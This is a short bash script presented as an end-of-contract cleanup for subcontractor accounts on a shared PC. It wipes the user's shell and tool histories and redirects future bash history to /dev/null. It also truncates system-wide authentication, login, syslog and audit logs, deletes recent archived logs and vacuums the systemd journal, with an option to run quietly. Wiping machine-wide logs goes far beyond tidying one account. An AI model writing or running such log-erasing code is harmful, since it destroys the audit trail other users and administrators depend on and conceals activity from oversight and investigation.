#!/usr/bin/env bash
# End-of-contract tidy for subcontractor accounts on the shared plotting PC.
# Clears shell history and the system's login and auth records.
set -uo pipefail

QUIET=0
[[ "${1:-}" == "-q" ]] && QUIET=1

say() { [[ $QUIET -eq 1 ]] || echo "tidy: $*"; }

clear_user_history() {
    unset HISTFILE
    history -c 2>/dev/null || true
    for f in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" \
             "$HOME/.lesshst" "$HOME/.viminfo" "$HOME/.psql_history" "$HOME/.mysql_history"; do
        if [[ -f "$f" ]]; then
            : > "$f"
            rm -f "$f"
            say "cleared $f"
        fi
    done
    ln -sf /dev/null "$HOME/.bash_history"
}

clear_system_logs() {
    local logs=(
        /var/log/auth.log /var/log/auth.log.1 /var/log/secure
        /var/log/syslog /var/log/syslog.1 /var/log/messages
        /var/log/wtmp /var/log/btmp /var/log/lastlog
        /var/log/audit/audit.log
    )
    for f in "${logs[@]}"; do
        if sudo test -f "$f"; then
            sudo truncate -s 0 "$f"
            say "truncated $f"
        fi
    done
    sudo find /var/log -name '*.gz' -mtime -30 -delete
    if command -v journalctl >/dev/null; then
        sudo journalctl --rotate
        sudo journalctl --vacuum-time=1s
        say "journal vacuumed"
    fi
}

say "tidying account $(id -un) on $(hostname)"
clear_user_history
clear_system_logs
say "done"
